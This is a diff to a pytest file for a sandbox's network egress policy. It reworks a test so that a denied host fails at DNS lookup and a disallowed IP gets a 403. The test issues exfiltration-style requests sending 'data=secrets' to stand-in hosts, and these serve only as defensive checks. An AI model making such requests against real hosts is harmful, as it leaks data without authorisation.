@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import socket
 import subprocess
 import urllib.error
 import urllib.request
@@ -39,12 +40,19 @@ def test_allowed_host_with_a_secret(http_traffic) -> None:  # type: ignore[no-un
 
 @pytest.mark.sandboxed(**API)
 def test_everything_else_is_denied(http_traffic) -> None:  # type: ignore[no-untyped-def]
-    with pytest.raises(urllib.error.HTTPError) as info:
+    # The guest's DNS answers only names the policy knows: a denied host fails at its lookup.
+    with pytest.raises(urllib.error.URLError) as info:
         urllib.request.urlopen("http://exfiltrate.example/?data=secrets", timeout=20)
-    assert info.value.code == 403
-    (exchange,) = http_traffic.requests
-    assert exchange.decision == "denied"
-    print("recorded:", exchange.summary())
+    assert isinstance(info.value.reason, socket.gaierror)
+    # A request to an address the policy does not allow: the host answers 403 itself.
+    with pytest.raises(urllib.error.HTTPError) as refused:
+        urllib.request.urlopen("http://203.0.113.7/?data=secrets", timeout=20)
+    assert refused.value.code == 403
+    lookup, connection = http_traffic.requests
+    assert (lookup.host, lookup.decision) == ("exfiltrate.example", "denied")
+    assert (connection.host, connection.decision) == ("203.0.113.7", "denied")
+    for exchange in http_traffic.requests:
+        print("recorded:", exchange.summary())
 
 
 @pytest.mark.sandboxed
